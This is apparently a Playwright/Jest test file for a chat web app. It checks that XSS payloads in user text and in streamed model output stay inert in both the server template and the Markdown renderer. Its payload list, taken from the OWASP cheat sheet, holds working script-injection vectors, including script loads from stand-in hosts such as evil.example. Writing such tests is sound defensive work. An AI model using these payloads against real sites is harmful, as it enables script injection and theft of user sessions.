/**
 * Hostile model output and hostile user text through both renderers (the server's template and the
 * page's Markdown renderer), in a real Chromium: nothing may run and no dangerous markup may survive.
 */
import type { Browser, BrowserContext } from 'playwright-core';
import request from 'supertest';
import { FakeDeepSeek } from '../fakes/deepseek.fake';
import { launchChromium, signInThroughForm } from '../support/browser';
import { type RunningApp, startApp } from '../support/app';
import { WsTestClient } from '../support/ws-client';

jest.setTimeout(90_000);

/** After the OWASP XSS filter-evasion cheat sheet: each would set window.__xss if it ran. */
const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:window.__xss=1">',
  '<IMG SRC=javascript:window.__xss=1>',
  '<IMG SRC=`javascript:window.__xss=1`>',
  '<IMG """><SCRIPT>window.__xss=1</SCRIPT>">',
  '<IMG SRC=# onmouseover="window.__xss=1">',
  '<IMG SRC=/ onerror="window.__xss=1"></img>',
  '<img src=x onerror=window.__xss=1>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1>',
  '<IMG SRC="jav\tascript:window.__xss=1;">',
  '<IMG SRC=" &#14;  javascript:window.__xss=1;">',
  '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=window.__xss=1>',
  '<<SCRIPT>window.__xss=1;//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.example/xss.js?< B >',
  '<iframe src=http://xss.example/scriptlet.html <',
  '</TITLE><SCRIPT>window.__xss=1;</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:window.__xss=1;">',
  '<svg/onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<BGSOUND SRC="javascript:window.__xss=1;">',
  '<LINK REL="stylesheet" HREF="javascript:window.__xss=1;">',
  "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:window.__xss=1;">',
  '<IFRAME SRC="javascript:window.__xss=1;"></IFRAME>',
  '<TABLE BACKGROUND="javascript:window.__xss=1">',
  '<DIV STYLE="background-image: url(javascript:window.__xss=1)">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:window.__xss=1">click</a>',
  '[click](javascript:window.__xss=1)',
  '[click](JaVaScRiPt:window.__xss=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '![x](javascript:window.__xss=1)',
  '![x](x" onerror="window.__xss=1)',
  '<details open ontoggle=window.__xss=1>',
  '<a href="&#x6A;avascript:window.__xss=1">entity</a>',
  '<form action="javascript:window.__xss=1"><button>go</button></form>',
  '`<script>window.__xss=1</script>` and ```html\n<script>window.__xss=1</script>\n```',
  '{{constructor.constructor("window.__xss=1")()}}',
  '"><script>window.__xss=1</script>',
  "'><img src=x onerror=window.__xss=1>",
];

// The page's own copy buttons on code blocks (button[data-copy-code]) are the only buttons allowed.
const DANGEROUS_ELEMENTS =
  'script, iframe, object, embed, img, svg, math, style, link, meta, form, input, button:not([data-copy-code]), base, bgsound, table[background]';

describe('XSS payloads are inert in both renderers (Chromium)', () => {
  let fake: FakeDeepSeek;
  let server: RunningApp;
  let browser: Browser;
  let context: BrowserContext;
  let cookie = '';

  beforeAll(async () => {
    fake = await FakeDeepSeek.start();
    // With accounts (the default AUTH_MODE=local): the test's user signs up through the real form.
    server = await startApp({ AUTH_MODE: 'local', DEEPSEEK_BASE_URL: fake.baseUrl, DEEPSEEK_API_KEY: 'test-key' });
    browser = await launchChromium();
    context = await browser.newContext();
    cookie = await signInThroughForm(context, server.url, 'xss', 'signup');
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
    await fake?.close();
  });

  async function inspect(path: string) {
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.goto(server.url + path);
    await page.waitForSelector('[data-content]');
    await page.waitForTimeout(300);
    const report = await page.evaluate((selector) => {
      const problems: string[] = [];
      for (const content of Array.from(document.querySelectorAll('[data-content]'))) {
        for (const el of Array.from(content.querySelectorAll(selector))) problems.push(`element <${el.tagName.toLowerCase()}>`);
        for (const el of Array.from(content.querySelectorAll('*'))) {
          for (const attr of Array.from(el.attributes)) {
            if (/^on/i.test(attr.name)) problems.push(`attribute ${attr.name} on <${el.tagName.toLowerCase()}>`);
            if (/^(href|src|action|xlink:href|formaction|background|data)$/i.test(attr.name) && /^\s*(javascript|data|vbscript):/i.test(attr.value)) {
              problems.push(`${attr.name}=${attr.value.slice(0, 40)}`);
            }
          }
        }
      }
      return { problems, xss: (window as unknown as { __xss?: number }).__xss ?? null, rendered: document.querySelectorAll('[data-content]').length };
    }, DANGEROUS_ELEMENTS);
    await page.close();
    return { ...report, dialogs };
  }

  it('stored messages (server template + page renderer)', async () => {
    const messages = PAYLOADS.flatMap((payload) => [
      { role: 'user', content: payload },
      { role: 'assistant', content: payload, reasoning: payload },
    ]);
    const imported = await request(server.url)
      .post('/api/chats/import')
      .set('Cookie', cookie)
      .send({ format: 'chat-export', version: 1, title: '<script>window.__xss=1</script>', messages })
      .expect(201);
    const html = (await request(server.url).get(`/chat/${imported.body.id}`).set('Cookie', cookie).expect(200)).text;
    expect(html).not.toMatch(/<script>window\.__xss/i);
    expect(html).not.toMatch(/<img[^>]*onerror/i);
    const report = await inspect(`/chat/${imported.body.id}`);
    expect(report.rendered).toBe(messages.length);
    expect(report).toMatchObject({ problems: [], xss: null, dialogs: [] });
  });

  it('a streamed answer rendered live, then on reload', async () => {
    fake.enqueue({ kind: 'stream', content: PAYLOADS.map((p) => `${p}\n\n`) });
    const ws = await WsTestClient.connect(server.wsUrl, { headers: { cookie } });
    ws.send({ type: 'user_message', content: 'say something nasty' });
    const created = await ws.nextOfType('chat_created');
    await ws.nextOfType('agent_response_end');
    ws.close();
    const page = await context.newPage();
    await page.goto(`${server.url}/chat/${created.chat_id}`);
    await page.waitForSelector('[data-connection="connected"]');
    // A second, live answer streamed into the open page.
    fake.enqueue({ kind: 'stream', content: PAYLOADS.map((p) => `${p}\n\n`), delayMs: 2 });
    await page.fill('form[data-chat-form] textarea[name=content]', 'again');
    await page.press('form[data-chat-form] textarea[name=content]', 'Enter');
    await page.waitForFunction(() => document.querySelectorAll('[data-role="assistant"][data-status="complete"]').length === 2, null, { timeout: 20000 });
    const live = await page.evaluate((selector) => {
      const bad: string[] = [];
      for (const el of Array.from(document.querySelectorAll(`[data-content] :is(${selector})`))) bad.push(el.tagName);
      for (const el of Array.from(document.querySelectorAll('[data-content] *'))) {
        for (const attr of Array.from(el.attributes))
          if (/^on/i.test(attr.name) || /^\s*(javascript|data|vbscript):/i.test(attr.value)) bad.push(`${el.tagName} ${attr.name}`);
      }
      return { bad, xss: (window as unknown as { __xss?: number }).__xss ?? null };
    }, DANGEROUS_ELEMENTS);
    await page.close();
    expect(live).toEqual({ bad: [], xss: null });
    const reloaded = await inspect(`/chat/${created.chat_id}`);
    expect(reloaded).toMatchObject({ problems: [], xss: null, dialogs: [] });
  });
});
